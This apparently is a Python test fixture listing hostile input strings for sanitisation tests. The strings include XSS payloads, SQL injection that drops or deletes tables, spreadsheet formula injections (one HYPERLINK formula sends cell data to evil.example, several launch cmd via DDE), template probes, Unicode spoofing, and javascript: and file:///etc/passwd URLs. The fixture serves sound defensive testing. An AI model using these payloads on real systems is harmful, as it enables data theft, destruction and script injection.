"""One corpus of hostile strings, pushed through every path that stores, displays or exports
text (library tests in tests/test_hostile_input.py, browser tests in tests/e2e/).

The script payloads set `window.__pwned` as well as calling alert(), so a browser test can
check both that no dialog opened and that no script ran silently.
"""

HOSTILE = [
    "<script>window.__pwned=1;alert('script')</script>",
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    "\"><svg/onload=window.__pwned=1;alert('svg')>",
    "<a href=\"javascript:window.__pwned=1;alert('href')\">source</a>",
    "</textarea></script><script>window.__pwned=1</script>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "javascript:window.__pwned=1",
    "'; DROP TABLE claims; --",
    "Robert'); DELETE FROM claim_history WHERE '1'='1",
    "1 OR 1=1 UNION SELECT * FROM reports --",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Pokrovsk \u202etxt.exe",  # right-to-left override
    "Kup\u200bians\u200dk\u2060",  # zero-width space, joiner, word joiner
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "]]><!--<x>--><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

# Too long for any claim field (the store refuses it with a clear message).
HUGE = "Бахмут-" * 149_796  # 1,048,572 characters (over 1 MB)

# Source URLs that must never become a link.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]
